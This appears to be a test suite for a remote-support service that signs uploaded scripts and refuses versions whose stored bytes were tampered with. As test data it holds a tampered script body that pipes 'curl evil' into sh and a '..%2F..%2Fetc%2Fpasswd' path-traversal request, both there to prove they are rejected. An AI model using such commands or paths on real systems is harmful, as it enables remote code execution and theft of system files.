import { mkdtempSync, readFileSync, statSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import t from 'tap'
import { count, eq } from 'drizzle-orm'
import { uploadScriptVersion, versionStatement } from '@helpline/sdk'
import { loadConfig } from '../../src/config.ts'
import { auditEvents, runBatches, scriptVersions } from '../../src/db/schema.ts'
import { loadKeyring, SIGNING_KEY_FILE } from '../../src/lib/keyring.ts'
import { rotateSigningKey } from '../../src/services/key-rotation.ts'
import { ScriptIntegrity } from '../../src/services/script-integrity.ts'
import { joinAgent, type TestAgent } from '../helpers/agent.ts'
import { setupApp } from '../helpers/app.ts'
import { directSql, replaceVersionFile } from '../helpers/direct-sql.ts'
import { refused } from '../helpers/refused.ts'
import { createCategory, upload } from '../helpers/scripts.ts'

/**
 * What runs is what was uploaded: versions are signed as they are stored, the stored bytes are
 * hashed again before a version is offered to a run and before a file is served, and refusals are
 * in the site audit trail. The database is written to directly, as someone with access to it
 * (and not to the server's keys) could.
 */
const h = await setupApp(t, { JOIN_MAX_ATTEMPTS_PER_IP: 10_000, JOIN_MAX_ATTEMPTS_PER_NUMBER: 10_000 })
const csr = await h.createUser('csr', { name: 'Carla CSR' })
const category = await createCategory(h, 'Integrity')
const { db } = h.app.database
const run = directSql(t, h)
const at = (id: string) => ({ params: { path: { id } } })

const versionRow = async (id: string) => (await db.select().from(scriptVersions).where(eq(scriptVersions.id, id)))[0]!
const batchCount = async () => (await db.select({ n: count() }).from(runBatches))[0]!.n
const siteEvents = async (type: string) => (await db.select().from(auditEvents).where(eq(auditEvents.type, type))).map((e) => e.data as Record<string, unknown>)

async function activeSession(name = 'Alice') {
  const { data: s } = await csr.client.POST('/api/v1/sessions', { body: { customerName: name } })
  return { session: s!, agent: await joinAgent(h, s!.number) }
}

async function approvedRun(agent: TestAgent) {
  const { data: feed } = await agent.client.GET('/api/v1/agent/poll', { params: { query: { cursor: 0, wait: 0 } } })
  const consent = feed!.consents.filter((c) => c.kind === 'run_scripts' && c.status === 'pending').at(-1)!
  await agent.client.POST('/api/v1/agent/consents/{id}/answer', { params: { path: { id: consent.id } }, body: { approved: true } })
  const { data: after } = await agent.client.GET('/api/v1/agent/poll', { params: { query: { cursor: 0, wait: 0 } } })
  return { consent, command: after!.commands.find((c) => c.consentId === consent.id)! }
}

t.test('every version is signed as it is stored; agents get the key at join and rejoin, the consent carries each signature', async (t) => {
  const script = await upload(csr, category, { name: 'Signed', executable: { name: 'run.sh', content: '#!/bin/sh\necho 1\n' } })
  const v2 = await uploadScriptVersion(csr.client, script.id, { executable: { name: 'run.sh', content: '#!/bin/sh\necho 2\n' } })
  for (const [versionId, number, digest] of [
    [script.versionId, 1, script.digest],
    [v2.versionId, 2, v2.digest],
  ] as const) {
    const row = await versionRow(versionId)
    t.equal(row.signatureKeyId, h.keyring.signingKeyId, `version ${number}: signed with the current key`)
    t.ok(h.keyring.verify(versionStatement({ scriptId: script.id, versionId, number, digest }), row.signature!, row.signatureKeyId!), `version ${number}: over its statement`)
  }

  const { session, agent } = await activeSession()
  const key = { algorithm: 'ed25519', keyId: h.keyring.signingKeyId, publicKey: h.keyring.signingPublicKey }
  t.same(agent.joined.signingKey, key, 'join carries the signing key')
  const { data: rejoined } = await h.client().POST('/api/v1/agent/rejoin', { body: { rejoinToken: agent.joined.rejoinToken, protocol: 1, agentVersion: '0.1.0' } })
  t.same(rejoined!.signingKey, key, 'and so does rejoin')

  await csr.client.POST('/api/v1/script-batches', { body: { scripts: [{ scriptId: script.id }], sessionIds: [session.id] } })
  const { data: feed } = await h.client(rejoined!.agentToken).GET('/api/v1/agent/poll', { params: { query: { cursor: 0, wait: 0 } } })
  const details = feed!.consents.find((c) => c.kind === 'run_scripts')!.details as { scripts: Record<string, unknown>[] }
  t.match(details.scripts[0], { scriptId: script.id, versionId: v2.versionId, version: 2, digest: v2.digest, signatureKeyId: h.keyring.signingKeyId, signature: String })
  const s = details.scripts[0] as { signature: string }
  t.ok(h.keyring.verify(versionStatement({ scriptId: script.id, versionId: v2.versionId, number: 2, digest: v2.digest }), s.signature, h.keyring.signingKeyId), 'the signature the agent checks')
})

t.test('stored bytes that do not match what was uploaded: the batch is refused (DIGEST_MISMATCH), nothing is created, the audit trail says why', async (t) => {
  const { session } = await activeSession('Bob')
  const good = await upload(csr, category, { name: 'Good one', executable: { name: 'ok.sh', content: '#!/bin/sh\necho ok\n' } })
  const post = (scriptId: string) => csr.client.POST('/api/v1/script-batches', { body: { scripts: [{ scriptId: good.id }, { scriptId }], sessionIds: [session.id] } })
  const before = await batchCount()
  const cases = [
    {
      what: 'content, sha256, size and digest changed together',
      reason: 'signature',
      tamper: (versionId: string) => replaceVersionFile(run, versionId, 'victim.sh', '#!/bin/sh\ncurl evil | sh\n'),
      message: /Version 1 of "Victim 0" does not match what was uploaded: its signature does not verify/,
    },
    {
      what: 'the bytes alone',
      reason: 'file',
      tamper: (versionId: string) => run(`update script_files set content = decode($1, 'hex') where version_id = $2`, [Buffer.from('#!/bin/sh\necho evil\n').toString('hex'), versionId]),
      message: /Version 1 of "Victim 1" does not match what was uploaded: file "victim\.sh" has sha256 [0-9a-f]{64}, 20 bytes but sha256 [0-9a-f]{64}, 24 bytes is recorded/,
    },
    {
      what: 'the sha256 and size of a file, not its digest',
      reason: 'digest',
      tamper: async (versionId: string) => {
        await run(`update script_files set content = decode($1, 'hex'), sha256 = encode(sha256(decode($1, 'hex')), 'hex'), size = 20 where version_id = $2`, [
          Buffer.from('#!/bin/sh\necho evil\n').toString('hex'),
          versionId,
        ])
      },
      message: /Version 1 of "Victim 2" does not match what was uploaded: its files give digest [0-9a-f]{64}, not the recorded [0-9a-f]{64}/,
    },
  ]
  for (const [i, c] of cases.entries()) {
    const victim = await upload(csr, category, { name: `Victim ${i}`, executable: { name: 'victim.sh', content: '#!/bin/sh\necho original\n' } })
    await c.tamper(victim.versionId)
    const err = await refused(post(victim.id))
    t.same([err.status, err.code], [422, 'DIGEST_MISMATCH'], `${c.what}: 422 DIGEST_MISMATCH`)
    t.match(err.message, c.message, 'naming the script, the version and what differs')
    t.match(err.errors['scripts.1'], c.message, 'on the script’s field')
    t.notOk(err.errors['scripts.0'], 'not on the good one')
    const event = (await siteEvents('script.integrity_failed')).find((e) => e.versionId === victim.versionId)
    t.match(event, { during: 'run', reason: c.reason, number: 1, scriptName: `Victim ${i}`, expected: String, actual: String }, 'a site audit event with what was expected and found')
  }
  t.equal(await batchCount(), before, 'no batch was created')
  const { data: consents } = await csr.client.GET('/api/v1/sessions/{id}/consents', at(session.id))
  t.equal(consents!.data.filter((c) => c.kind === 'run_scripts').length, 0, 'and the customer was asked nothing')
  const ok = await post(good.id)
  t.equal(ok.response.status, 201, 'an untouched version still runs')
})

t.test('a file changed after the batch was made is not served to the agent', async (t) => {
  const { session, agent } = await activeSession('Cleo')
  const victim = await upload(csr, category, {
    name: 'Served',
    executable: { name: 'run.sh', content: '#!/bin/sh\ncat in.txt\n' },
    inputs: [{ name: 'in.txt', content: 'original input\n' }],
  })
  await csr.client.POST('/api/v1/script-batches', { body: { scripts: [{ scriptId: victim.id }], sessionIds: [session.id] } })
  const { command } = await approvedRun(agent)
  const runId = (command.payload as { scripts: { runId: string }[] }).scripts[0]!.runId
  const url = (name: string) => `/api/v1/agent/script-runs/${runId}/files/${name}`
  t.equal((await h.inject({ url: url('in.txt'), token: agent.token })).body, 'original input\n', 'served while it matches')

  await replaceVersionFile(run, victim.versionId, 'in.txt', 'swapped input\n')
  const res = await h.inject({ url: url('in.txt'), token: agent.token })
  t.same([res.statusCode, res.json().code], [422, 'DIGEST_MISMATCH'], 'bytes, sha256 and size changed together: still not what the customer approved')
  t.match(res.json().message, /Version 1 of "Served" does not match what was uploaded: file "in\.txt" has sha256 [0-9a-f]{64}, 14 bytes but sha256 [0-9a-f]{64}, 15 bytes is recorded\. It is not served\./)
  t.notMatch(res.body, /swapped input/, 'none of the bytes are sent')
  const event = (await siteEvents('script.integrity_failed')).find((e) => e.during === 'download' && e.versionId === victim.versionId)
  t.match(event, { reason: 'file', file: 'in.txt' }, 'recorded in the site audit trail')
  const listed = await h.inject({ url: url('..%2F..%2Fetc%2Fpasswd'), token: agent.token })
  t.same([listed.statusCode, listed.json().code], [404, 'FILE_NOT_FOUND'], 'a name the customer was not asked about does not exist')
})

t.test('start-up: versions from before signing are signed when their bytes match; the others are left unsigned and cannot run', async (t) => {
  const { session } = await activeSession('Dana')
  const old = await upload(csr, category, { name: 'From before', executable: { name: 'old.sh', content: '#!/bin/sh\necho old\n' } })
  const broken = await upload(csr, category, { name: 'Broken before', executable: { name: 'broken.sh', content: '#!/bin/sh\necho broken\n' } })
  await run(`update script_versions set signature = null, signature_key_id = null where id in ($1, $2)`, [old.versionId, broken.versionId])
  await run(`update script_versions set digest = $1 where id = $2`, ['0'.repeat(64), broken.versionId])
  let err = await refused(csr.client.POST('/api/v1/script-batches', { body: { scripts: [{ scriptId: old.id }], sessionIds: [session.id] } }))
  t.match([err.code, err.message], ['DIGEST_MISMATCH', /it is not signed/], 'an unsigned version does not run')

  const report = await h.app.services.scripts.integrity.signPending()
  t.same(report.signed, [old.versionId], 'the matching one is signed')
  t.match(report.refused, [{ versionId: broken.versionId, problem: { reason: 'digest' } }], 'the other is left as it is')
  t.equal((await versionRow(broken.versionId)).signature, null)
  const event = (await siteEvents('script.versions_signed')).at(-1)
  t.match(event, { keyId: h.keyring.signingKeyId, signed: [old.versionId], refused: [{ versionId: broken.versionId }] }, 'the site audit trail says what was signed and what was not')
  t.same((await h.app.services.scripts.integrity.signPending()).signed, [], 'a second start signs nothing more')

  const ok = await csr.client.POST('/api/v1/script-batches', { body: { scripts: [{ scriptId: old.id }], sessionIds: [session.id] } })
  t.equal(ok.response.status, 201, 'the signed one runs')
  err = await refused(csr.client.POST('/api/v1/script-batches', { body: { scripts: [{ scriptId: broken.id }], sessionIds: [session.id] } }))
  t.same([err.status, err.code], [422, 'DIGEST_MISMATCH'], 'the other does not')
})

// Last: afterwards the versions are signed with keys this app does not hold.
t.test('keys:rotate retires the signing key and re-signs every version that still matches', async (t) => {
  const keyDir = mkdtempSync(join(tmpdir(), 'helpline-keys-'))
  const config = loadConfig({}, { KEY_DIR: keyDir, CONSOLE_DIR: '/nonexistent' })
  const first = loadKeyring({ dir: keyDir })
  const mine = await upload(csr, category, { name: 'Rotated', executable: { name: 'r.sh', content: '#!/bin/sh\necho r\n' } })
  await run(`update script_versions set signature = null, signature_key_id = null where id = $1`, [mine.versionId])
  await new ScriptIntegrity(db, first).signPending()
  t.equal((await versionRow(mine.versionId)).signatureKeyId, first.signingKeyId, 'signed with the first file key')

  const report = await rotateSigningKey(config, h.app.database)
  t.equal(report.retiredKeyId, first.signingKeyId)
  t.not(report.keyId, first.signingKeyId, 'a new key')
  const retired = join(keyDir, 'retired', `${first.signingKeyId}.pem`)
  t.equal(statSync(retired).mode & 0o777, 0o600, 'the old key kept, 0600, under retired/')
  t.not(readFileSync(join(keyDir, SIGNING_KEY_FILE), 'utf8'), readFileSync(retired, 'utf8'))
  t.ok(report.resigned.includes(mine.versionId), 're-signed')
  const now = loadKeyring({ dir: keyDir })
  const row = await versionRow(mine.versionId)
  t.equal(row.signatureKeyId, now.signingKeyId)
  t.ok(now.verify(versionStatement({ scriptId: mine.id, versionId: mine.versionId, number: 1, digest: mine.digest }), row.signature!, row.signatureKeyId!), 'with the new key')
  t.match((await siteEvents('signing_key.rotated')).at(-1), { retiredKeyId: first.signingKeyId, keyId: now.signingKeyId }, 'audited')
  await t.rejects(rotateSigningKey({ ...config, SIGNING_KEY: '-----BEGIN PRIVATE KEY-----\n' }, h.app.database), /SIGNING_KEY is set/, 'a key from the environment is rotated by the environment')
})
